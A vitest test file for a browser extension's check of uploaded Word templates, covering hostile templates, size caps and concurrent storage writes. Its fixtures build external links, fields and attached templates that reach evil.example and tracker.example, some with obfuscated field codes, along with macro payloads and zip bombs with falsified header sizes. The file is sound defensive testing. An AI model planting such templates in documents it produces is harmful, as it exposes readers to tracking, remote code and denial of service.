import PizZip from 'pizzip';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { installNodeDefaultTemplates, readDefaultTemplate } from '../../../lib/documents/templates/defaults-node';
import { TEMPLATE_LIMITS, checkOfficeTemplate } from '../../../lib/documents/templates';
import { loadOfficeTemplates, uploadOfficeTemplate } from '../../../lib/documents/templates/storage';

const AT = '2026-11-29T09:00';

/** The default apology letter with some parts changed or added, zipped again. */
function tampered(change: (zip: PizZip) => void): Uint8Array {
  const zip = new PizZip(readDefaultTemplate('apology-letter'));
  change(zip);
  return zip.generate({ type: 'uint8array', compression: 'DEFLATE' });
}

const relationship = (type: string, target: string) =>
  `<Relationship Id="rIdHostile" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
const addRelationship = (part: string, xml: string) => (zip: PizZip) => {
  const held = zip.file(part)?.asText() ?? '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
  zip.file(part, held.replace('</Relationships>', `${xml}</Relationships>`));
};
const inBody = (runs: string) => (zip: PizZip) => {
  const xml = zip.file('word/document.xml')!.asText();
  zip.file('word/document.xml', xml.replace('<w:body>', `<w:body><w:p>${runs}</w:p>`));
};

const codes = (bytes: Uint8Array) => {
  const verdict = checkOfficeTemplate('apology-letter', bytes);
  return verdict.ok ? [] : verdict.problems.map((p) => p.code);
};

describe('office templates that could harm whoever opens the documents (issue 16 item 9)', () => {
  beforeAll(() => installNodeDefaultTemplates());

  it('accepts the default template, hyperlinks included', () => {
    expect(codes(readDefaultTemplate('apology-letter'))).toEqual([]);
    expect(codes(tampered(addRelationship('word/_rels/document.xml.rels', relationship('hyperlink', 'https://dichvucong.gov.vn/'))))).toEqual([]);
  });

  it.each([
    ['a linked picture', 'word/_rels/document.xml.rels', relationship('image', 'http://tracker.example/p.png?ma=H21')],
    ['an attached template', 'word/_rels/settings.xml.rels', relationship('attachedTemplate', 'https://evil.example/t.dotm')],
    ['a linked object', 'word/_rels/document.xml.rels', relationship('oleObject', '\\\\evil.example\\share\\x.xlsx')],
  ])('refuses %s (an external relationship)', (_, part, xml) => {
    expect(codes(tampered(addRelationship(part, xml)))).toEqual(['template-external-target']);
  });

  it('refuses INCLUDEPICTURE fields, even split over runs or written with character references', () => {
    const split = '<w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example/{code}.png" \\d </w:instrText></w:r>';
    expect(codes(tampered(inBody(split)))).toEqual(['template-external-field']);
    const simple = '<w:fldSimple w:instr=" &#73;NCLUDETEXT &quot;http://evil.example/a.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>';
    expect(codes(tampered(inBody(simple)))).toEqual(['template-external-field']);
  });

  it('refuses macro-enabled templates: a VBA project, or a .docm renamed', () => {
    expect(codes(tampered((zip) => zip.file('word/vbaProject.bin', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]))))).toEqual(['template-macros']);
    const docm = tampered((zip) => {
      const types = zip.file('[Content_Types].xml')!.asText();
      zip.file('[Content_Types].xml', types.replace('wordprocessingml.document.main+xml', 'ms-word.document.macroEnabled.main+xml'));
    });
    expect(codes(docm)).toEqual(['template-macros']);
  });
});

describe('size caps (issue 16 item 10)', () => {
  beforeAll(() => installNodeDefaultTemplates());
  beforeEach(() => fakeBrowser.reset());

  it('refuses an upload over 10 MB before opening it', async () => {
    const big = new Uint8Array(TEMPLATE_LIMITS.uploadBytes + 1);
    const outcome = await uploadOfficeTemplate('apology-letter', 'lon.docx', big, AT);
    expect(outcome.ok ? [] : outcome.problems.map((p) => p.code)).toEqual(['template-file-too-large']);
    expect(outcome.ok ? '' : outcome.problems[0]!.message.vi).toContain('vượt giới hạn 10.0 MB');
  });

  it('refuses a zip bomb from its declared sizes, without inflating it', async () => {
    const bomb = tampered((zip) => zip.file('word/media/bomb.bin', new Uint8Array(60 * 1024 * 1024)));
    expect(bomb.length).toBeLessThan(TEMPLATE_LIMITS.uploadBytes);
    const started = performance.now();
    const outcome = await uploadOfficeTemplate('apology-letter', 'bom.docx', bomb, AT);
    expect(performance.now() - started).toBeLessThan(500);
    expect(outcome.ok ? [] : outcome.problems.map((p) => p.code)).toEqual(['template-unpacked-too-large']);
    expect(await loadOfficeTemplates()).toEqual({});
  });

  it('refuses a part that inflates beyond the size it declares, stopping at that size', async () => {
    const bomb = tampered((zip) => zip.file('word/media/bomb.bin', new Uint8Array(40 * 1024 * 1024)));
    // Rewrite the part's declared size (central and local headers) to 1 KB: the lie a bomb tells.
    const view = new DataView(bomb.buffer);
    const name = new TextEncoder().encode('word/media/bomb.bin');
    for (let at = 0; at < bomb.length - 46; at++) {
      const central = view.getUint32(at, true) === 0x02014b50 && view.getUint16(at + 28, true) === name.length;
      const local = view.getUint32(at, true) === 0x04034b50 && view.getUint16(at + 26, true) === name.length;
      if (central && bomb.subarray(at + 46, at + 46 + name.length).every((b, i) => b === name[i])) view.setUint32(at + 24, 1024, true);
      if (local && bomb.subarray(at + 30, at + 30 + name.length).every((b, i) => b === name[i])) view.setUint32(at + 22, 1024, true);
    }
    const outcome = await uploadOfficeTemplate('apology-letter', 'bom.docx', bomb, AT);
    expect(outcome.ok ? [] : outcome.problems.map((p) => [p.code, p.where])).toEqual([['template-size-mismatch', 'word/media/bomb.bin']]);
  });
});

describe('template storage writes (issue 16 item 8)', () => {
  beforeAll(() => installNodeDefaultTemplates());
  beforeEach(() => fakeBrowser.reset());
  afterEach(() => vi.restoreAllMocks());

  it('keeps both templates when two uploads run at once', async () => {
    // A slow disk: reads and writes take a while, so both uploads read before either has written unless they queue.
    const slow = <A extends unknown[], R>(call: (...args: A) => Promise<R>) => async (...args: A) => {
      await new Promise((resolve) => setTimeout(resolve, 50));
      return call(...args);
    };
    const local = fakeBrowser.storage.local as unknown as Record<'get' | 'set', (...args: unknown[]) => Promise<unknown>>;
    const [get, set] = [local.get.bind(local), local.set.bind(local)];
    vi.spyOn(local, 'get').mockImplementation(slow(get));
    vi.spyOn(local, 'set').mockImplementation(slow(set));
    const [a, b] = await Promise.all([
      uploadOfficeTemplate('apology-letter', 'xin-loi.docx', readDefaultTemplate('apology-letter'), AT),
      uploadOfficeTemplate('explanation', 'giai-trinh.docx', readDefaultTemplate('explanation'), AT),
    ]);
    expect([a.ok, b.ok]).toEqual([true, true]);
    expect(Object.keys(await loadOfficeTemplates()).sort()).toEqual(['apology-letter', 'explanation']);
  });
});
